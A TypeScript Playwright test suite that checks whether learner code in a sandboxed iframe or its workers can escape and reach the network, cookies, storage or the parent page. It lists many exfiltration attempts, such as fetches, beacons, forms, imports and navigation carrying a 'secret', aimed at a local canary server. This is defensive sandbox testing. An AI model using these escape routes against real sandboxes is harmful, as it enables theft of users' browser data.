/**
 * Goal: a program that a learner runs reaches nothing of the browser that it runs in. Method: every way out is tried
 * in three places - in the frame's own thread, in a bare worker of that frame (what a program that broke our shim
 * would have), and as a program on its usual path - while a server beside the product listens for whoever gets through.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { launchBrowser, newVisitor } from "./support/browser";
import { becomeLearner } from "./support/people";

/** A way out: its name, an expression that tries it (and may wait), and what must come of it. */
type WayOut = readonly [name: string, code: string, outcome: RegExp];

const BLOCKED = /^threw (TypeError: Failed to fetch|NetworkError|SecurityError)/;
const SANDBOXED = /^threw SecurityError/;

/** Where there is a window and where there is not. CANARY is the address of the listening server. */
const FROM_EITHER: readonly WayOut[] = [
  ["fetch from another host", "(await fetch(CANARY + '/fetch')).status", BLOCKED],
  ["fetch from another host without its consent", "(await fetch(CANARY + '/no-cors', { mode: 'no-cors' })).type", BLOCKED],
  ["fetch from the product", "(await fetch(PRODUCT + '/api/health', { credentials: 'include' })).status", BLOCKED],
  ["XMLHttpRequest", "const request = new XMLHttpRequest(); request.open('GET', CANARY + '/xhr', false); request.send(); return request.status", BLOCKED],
  ["WebSocket", "await ends(new WebSocket(CANARY.replace('http', 'ws') + '/socket'))", /^gave error$|^threw SecurityError/],
  ["WebTransport", "await new WebTransport(CANARY.replace('http:', 'https:') + '/transport').ready", /^threw/],
  ["EventSource", "await ends(new EventSource(CANARY + '/events'))", /^gave error$|^threw SecurityError/],
  ["indexedDB", "indexedDB.open('x').readyState", SANDBOXED],
  ["caches", "await caches.open('x')", /^threw (SecurityError|ReferenceError)/],
  ["private file system", "await navigator.storage.getDirectory()", /^threw (SecurityError|TypeError)/],
  ["cookieStore", "await cookieStore.getAll()", /^threw (SecurityError|ReferenceError|TypeError)/],
  ["import of another host's module", "await import(CANARY + '/module.js')", BLOCKED],
  ["import of the product's module", "await import(PRODUCT + '/strip-worker.js')", BLOCKED],
  ["import of data", "(await import('data:text/javascript,export default 1')).default", BLOCKED],
];

const FROM_A_WINDOW: readonly WayOut[] = [
  ...FROM_EITHER,
  ["cookies", "document.cookie", SANDBOXED],
  ["setting a cookie", "document.cookie = 'x=1'", SANDBOXED],
  ["localStorage", "localStorage.length", SANDBOXED],
  ["sessionStorage", "sessionStorage.length", SANDBOXED],
  ["the page's document", "parent.document.title", SANDBOXED],
  ["the page's address", "parent.location.href", SANDBOXED],
  ["leading the page away", "top.location.href = CANARY + '/top'", SANDBOXED],
  ["a new window", "window.open(CANARY + '/window')", /^gave null$/],
  ["an alert", "alert('x')", /^gave undefined$/],
  ["a question", "String(confirm('x')) + prompt('x')", /^gave falsenull$/],
  ["sendBeacon", "navigator.sendBeacon(CANARY + '/beacon', 'x'), await later(200)", /^gave/],
  ["an image", "await ends(Object.assign(new Image(), { src: CANARY + '/image' }))", /^gave error$/],
  ["a script", "await ends(adds('script', { src: CANARY + '/script.js' }))", /^gave error$/],
  ["a style sheet", "await ends(adds('link', { rel: 'stylesheet', href: CANARY + '/style.css' }))", /^gave error$/],
  ["a frame within", "adds('iframe', { src: CANARY + '/frame' }), await later(200)", /^gave/],
  ["a form", "const form = adds('form', { action: CANARY + '/form', method: 'post' }); form.submit(); await later(200)", /^gave/],
  ["a worker from the product", "await ends(new Worker(PRODUCT + '/strip-worker.js'))", /^gave error$|^threw SecurityError/],
  ["a shared worker", "await ends(new SharedWorker(PRODUCT + '/strip-worker.js'))", /^gave error$|^threw SecurityError/],
  ["a service worker", "await navigator.serviceWorker.register(PRODUCT + '/strip-worker.js')", /^threw (SecurityError|TypeError)/],
  ["shared memory", "new SharedArrayBuffer(8).byteLength", /^threw ReferenceError/],
];

const FROM_A_WORKER: readonly WayOut[] = [
  ...FROM_EITHER,
  ["importScripts", "importScripts(CANARY + '/classic.js')", /^threw NetworkError/],
  ["importScripts of the product", "importScripts(PRODUCT + '/strip-worker.js')", /^threw NetworkError/],
  ["a window", "typeof window + typeof document + typeof parent", /^gave undefinedundefinedundefined$/],
  ["a worker from another host", "await ends(new Worker(CANARY + '/worker.js'))", /^gave error$|^threw SecurityError/],
  ["fetch in a worker of the worker", "await new Promise((resolve) => new Worker(URL.createObjectURL(new Blob([`fetch('${CANARY}/nested').then(() => postMessage('fetched'), (error) => postMessage(error.name))`]))).onmessage = (event) => resolve(event.data))", /^gave TypeError$/],
];

/** Source of a function that tries all of them and tells what happened. */
const attempt = (ways: readonly WayOut[], canary: string, product: string): string => `async () => {
  const CANARY = ${JSON.stringify(canary)}, PRODUCT = ${JSON.stringify(product)};
  const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const ends = (thing) => new Promise((resolve) => { for (const kind of ["open", "load", "message", "error", "close"]) thing.addEventListener(kind, () => resolve(kind)); });
  const adds = (name, what) => document.documentElement.appendChild(Object.assign(document.createElement(name), what));
  const ways = [${ways.map(([, code]) => `async () => { ${/\breturn\b/.test(code) || code.startsWith("const") ? code : `return ${code}`} }`).join(",\n")}];
  const outcomes = [];
  for (const way of ways) {
    const tried = way().then((value) => "gave " + (typeof value === "object" && value !== null ? Object.prototype.toString.call(value) : value), (error) => "threw " + error.name + ": " + error.message);
    outcomes.push(await Promise.race([tried, later(20_000).then(() => "gave no answer")]));
  }
  return outcomes;
}`;

let canary: Server;
let canaryUrl = "";
let heard: string[] = [];
let browser: Browser;
let context: BrowserContext;
let page: Page;
let product = "";
let answered: string[] = [];

beforeAll(async () => {
  canary = createServer((req, res) => {
    const [path, held] = (req.url ?? "").split("?");
    if (path === "/holds") return void res.setHeader("content-type", "text/html").end(`<iframe src="${held}"></iframe>`);
    heard.push(`${req.method} ${req.url}`);
    res.setHeader("access-control-allow-origin", "*").setHeader("content-type", "text/javascript").end("export default 1");
  });
  canary.on("upgrade", (req, socket) => {
    heard.push(`socket ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  browser = await launchBrowser();
  ({ context, page } = await newVisitor(browser));
  await becomeLearner(context);
  // A page of ours with its usual policy, somebody signed in, and something worth stealing.
  await page.goto("/settings");
  await page.evaluate(() => localStorage.setItem("secret", "of the page"));
  product = new URL(page.url()).origin;
  page.on("response", (response) => {
    // The page goes on with its own work; what counts is what the frame and its workers ask.
    if (response.frame() !== page.mainFrame() && !response.url().startsWith("blob:")) answered.push(response.url());
  });
});
afterAll(async () => {
  await browser?.close();
  canary?.close();
});

beforeEach(() => {
  heard = [];
  answered = [];
});

/** Holds a fresh run frame in the page, as the labs do. */
async function holdFrame(): Promise<Frame> {
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        document.querySelector("iframe")?.remove();
        const frame = document.createElement("iframe");
        frame.setAttribute("sandbox", "allow-scripts");
        frame.src = "/run-frame";
        window.addEventListener("message", ({ source, data }) => {
          if (source === frame.contentWindow && (data as { say: string }).say === "ready") resolve();
        });
        document.body.append(frame);
      }),
  );
  const frame = page.frames().find((one) => one.url().endsWith("/run-frame"));
  if (frame === undefined) throw new Error("the page holds no run frame");
  // Only what follows is looked at.
  answered = [];
  return frame;
}

function expectWalls(ways: readonly WayOut[], outcomes: readonly string[]): void {
  const table = ways.map(([name], at) => `${name}: ${outcomes[at]}`);
  const open = table.filter((_, at) => !ways[at]?.[2].test(outcomes[at] ?? ""));
  expect(open, table.join("\n")).toEqual([]);
  expect(heard, "what reached the other host").toEqual([]);
  expect(answered, "what any host answered").toEqual([]);
}

describe("the walls of the browser", () => {
  test("from the frame's own thread", async () => {
    const frame = await holdFrame();
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => void dialogs.push(dialog.message()));
    expectWalls(FROM_A_WINDOW, await frame.evaluate<string[]>(`(${attempt(FROM_A_WINDOW, canaryUrl, product)})()`));
    expect(dialogs).toEqual([]);
    expect(new URL(page.url()).pathname).toBe("/settings");
    expect(context.pages()).toHaveLength(1);
  });

  test("from a worker of the frame, as a program would find them that had broken out of its realm", async () => {
    const frame = await holdFrame();
    const worker = `(${attempt(FROM_A_WORKER, canaryUrl, product)})().then(postMessage)`;
    const outcomes = await frame.evaluate(
      (text) =>
        new Promise<string[]>((resolve) => {
          new Worker(URL.createObjectURL(new Blob([text]))).onmessage = ({ data }) => resolve(data as string[]);
        }),
      worker,
    );
    expectWalls(FROM_A_WORKER, outcomes);
  });

  test("the frame cannot carry anything away by going elsewhere itself", async () => {
    const frame = await holdFrame();
    await frame.evaluate((address) => void setTimeout(() => location.assign(address), 0), `${canaryUrl}/self?secret=1`);
    await page.waitForTimeout(500);
    expect(heard).toEqual([]);
  });

  test("opened in a tab it has no origin either", async () => {
    const tab = await context.newPage();
    await tab.goto("/run-frame");
    expect(await tab.evaluate(() => window.origin)).toBe("null");
    expect(await tab.evaluate(`(async () => { try { return document.cookie } catch (error) { return error.name } })()`)).toBe("SecurityError");
    await tab.close();
  });

  test("a page of another host cannot hold it", async () => {
    const other = await context.newPage();
    await other.goto(`${canaryUrl}/holds?${product}/run-frame`);
    await other.waitForSelector("iframe");
    await other.waitForTimeout(300);
    expect(other.frames()).toHaveLength(2);
    expect(other.frames().map((one) => one.url())).not.toContain(`${product}/run-frame`);
    await other.close();
  });
});
